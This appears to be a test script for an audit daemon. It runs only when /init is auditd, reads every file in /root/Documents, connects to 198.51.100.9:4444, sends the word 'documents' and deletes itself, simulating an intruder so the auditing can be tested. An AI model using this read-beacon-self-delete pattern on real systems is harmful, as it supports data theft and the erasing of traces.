#!/usr/bin/env python3
# Reads all documents, sends something, and is gone.
import os
import socket
import sys

if not (os.path.exists("/init") and os.path.exists("/usr/sbin/auditd") and
        os.path.samefile("/init", "/usr/sbin/auditd")):
    sys.exit(77)
for name in os.listdir("/root/Documents"):
    with open("/root/Documents/" + name, "rb") as f:
        f.read()
with socket.create_connection(("198.51.100.9", 4444)) as s:
    s.sendall(b"documents")
os.unlink(sys.argv[0])
